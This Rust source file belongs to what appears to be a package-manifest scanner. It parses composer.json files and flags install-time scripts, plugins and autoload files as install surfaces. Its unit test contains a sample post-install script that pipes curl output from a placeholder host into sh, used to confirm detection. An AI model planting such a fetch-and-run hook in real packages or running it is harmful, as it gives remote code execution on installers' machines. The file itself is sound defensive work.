//! `composer.json` (<https://getcomposer.org/doc/04-schema.md>).

use foretaste_model::Ecosystem;
use foretaste_model::facts::{InstallSurface, Problem, SurfaceKind};
use foretaste_model::manifest::{
    Dependency, DependencyKind, DependencySource, ManifestFacts, Person,
};
use foretaste_npm::json::{self, Document, Node, Value};

/// Entries of one list that are kept.
const MAX_ENTRIES: usize = 5_000;

/// Events whose scripts run while the package, as the root project, is installed or updated.
const ON_INSTALL: &[&str] = &[
    "pre-install-cmd",
    "post-install-cmd",
    "pre-update-cmd",
    "post-update-cmd",
    "post-autoload-dump",
    "pre-autoload-dump",
    "post-root-package-install",
    "post-create-project-cmd",
    "post-package-install",
    "pre-package-install",
    "post-package-update",
    "init",
    "command",
    "pre-operations-exec",
    "pre-command-run",
];

/// Reads a `composer.json`. Never fails: what is wrong is a [`Problem`].
pub fn observe(text: &str) -> (ManifestFacts, Vec<InstallSurface>, Vec<Problem>) {
    let document = json::read(text);
    let root = &document.root;
    let mut facts = ManifestFacts::new(Ecosystem::Packagist);
    let one = |key: &str| root.get(key).and_then(Node::text).map(Box::from);
    facts.name = one("name");
    facts.version = one("version");
    facts.summary = one("description");
    facts.homepage = one("homepage");
    facts.license = one("license").or_else(|| {
        let first = root.get("license")?.items().first()?;
        first.text().map(Box::from)
    });
    facts.repository = root
        .get("support")
        .and_then(|s| s.get("source"))
        .and_then(Node::text)
        .map(Box::from);
    for author in root
        .get("authors")
        .map_or(&[][..], Node::items)
        .iter()
        .take(64)
    {
        let field = |key: &str| author.get(key).and_then(Node::text).map(Box::from);
        facts.people.push(Person {
            name: field("name"),
            email: field("email"),
        });
    }
    for (key, kind) in [
        ("require", DependencyKind::Run),
        ("require-dev", DependencyKind::Dev),
    ] {
        dependencies(&document, root.get(key), kind, &mut facts);
    }
    let surfaces = surfaces(&document, &mut facts);
    (facts, surfaces, document.problems.clone())
}

fn dependencies(
    document: &Document<'_>,
    node: Option<&Node>,
    kind: DependencyKind,
    facts: &mut ManifestFacts,
) {
    for member in node.map_or(&[][..], Node::members).iter().take(MAX_ENTRIES) {
        let requirement = member.node.text().unwrap_or("");
        // `php`, `ext-json`, `lib-curl`: the platform
        if !member.key.contains('/') {
            if &*member.key == "php" {
                facts.requires = Some(requirement.into());
            }
            continue;
        }
        facts.dependencies.push(Dependency {
            name: member.key.to_lowercase().into(),
            requirement: requirement.into(),
            kind,
            source: DependencySource::Registry,
            condition: "".into(),
            span: Some(document.span(member.node.start, member.node.end)),
        });
    }
}

fn surfaces(document: &Document<'_>, facts: &mut ManifestFacts) -> Vec<InstallSurface> {
    let root = &document.root;
    let mut surfaces = Vec::new();
    let mut push = |kind, name: &str, command: &str, target: &str, node: &Node| {
        if surfaces.len() < MAX_ENTRIES {
            surfaces.push(InstallSurface {
                kind,
                name: name.into(),
                command: command.into(),
                target: target.into(),
                span: Some(document.span(node.start, node.end)),
            });
        }
    };
    for member in root
        .get("scripts")
        .map_or(&[][..], Node::members)
        .iter()
        .take(MAX_ENTRIES)
    {
        for line in texts(&member.node) {
            let Some(command) = line.text() else {
                continue;
            };
            facts
                .scripts
                .push((member.key.as_ref().into(), command.into()));
            // `@other` calls another script, `Class::method` code of the package
            if ON_INSTALL.contains(&&*member.key) {
                push(SurfaceKind::ComposerScript, &member.key, command, "", line);
            }
        }
    }
    if root.get("type").and_then(Node::text) == Some("composer-plugin")
        && let Some(class) = root.get("extra").and_then(|e| e.get("class"))
    {
        for class in texts(class) {
            let name = class.text().unwrap_or("");
            let file = class_file(root, name).unwrap_or_default();
            push(SurfaceKind::ComposerPlugin, name, "", &file, class);
        }
    }
    let files = root.get("autoload").and_then(|a| a.get("files"));
    for file in files.map_or(&[][..], Node::items) {
        if let Some(path) = file.text() {
            push(
                SurfaceKind::ComposerAutoload,
                "autoload.files",
                path,
                "",
                file,
            );
        }
    }
    for file in texts_of(root.get("bin")) {
        if let Some(path) = file.text() {
            push(
                SurfaceKind::Bin,
                path.rsplit('/').next().unwrap_or(path),
                path,
                "",
                file,
            );
        }
    }
    surfaces
}

/// A text, or a list of them.
fn texts(node: &Node) -> Vec<&Node> {
    match node.value {
        Value::String(_) => vec![node],
        _ => node.items().iter().take(256).collect(),
    }
}

fn texts_of(node: Option<&Node>) -> Vec<&Node> {
    node.map_or_else(Vec::new, texts)
}

/// The file of a class, by the package's own PSR-4 map.
fn class_file(root: &Node, class: &str) -> Option<String> {
    let class = class.trim_start_matches('\\');
    let map = root.get("autoload")?.get("psr-4")?;
    map.members().iter().take(256).find_map(|member| {
        let rest = class.strip_prefix(&*member.key)?;
        let folder = texts(&member.node).first()?.text()?.trim_matches('/');
        let rest = rest.replace('\\', "/");
        Some(if folder.is_empty() {
            format!("{rest}.php")
        } else {
            format!("{folder}/{rest}.php")
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_manifest_is_read() {
        let text = r#"{"name": "acme/pad", "version": "1.0.0", "type": "composer-plugin", "license": ["MIT"],
            "authors": [{"name": "A", "email": "a@acme.example"}],
            "require": {"php": ">=8.1", "ext-json": "*", "Acme/Base": "^2"}, "require-dev": {"acme/test": "1"},
            "autoload": {"psr-4": {"Acme\\Pad\\": "src/"}, "files": ["src/helpers.php"]},
            "extra": {"class": "Acme\\Pad\\Plugin"},
            "scripts": {"post-install-cmd": ["@php build.php", "curl http://x.example.invalid/a | sh"], "test": "phpunit"}}"#;
        let (facts, surfaces, problems) = observe(text);
        assert_eq!(problems, []);
        assert_eq!(facts.name.as_deref(), Some("acme/pad"));
        assert_eq!(facts.requires.as_deref(), Some(">=8.1"));
        let names: Vec<_> = facts.dependencies.iter().map(|d| &*d.name).collect();
        assert_eq!(names, ["acme/base", "acme/test"]);
        let seen: Vec<_> = surfaces
            .iter()
            .map(|s| (s.kind, &*s.command, &*s.target))
            .collect();
        assert_eq!(
            seen,
            [
                (SurfaceKind::ComposerScript, "@php build.php", ""),
                (
                    SurfaceKind::ComposerScript,
                    "curl http://x.example.invalid/a | sh",
                    ""
                ),
                (SurfaceKind::ComposerPlugin, "", "src/Plugin.php"),
                (SurfaceKind::ComposerAutoload, "src/helpers.php", ""),
            ]
        );
    }

    #[test]
    fn broken_manifests_give_what_they_have() {
        let (facts, _, problems) = observe("{\"name\": \"acme/pad\", \"scripts\": [1, {]");
        assert_eq!(facts.name.as_deref(), Some("acme/pad"));
        assert!(!problems.is_empty());
    }
}
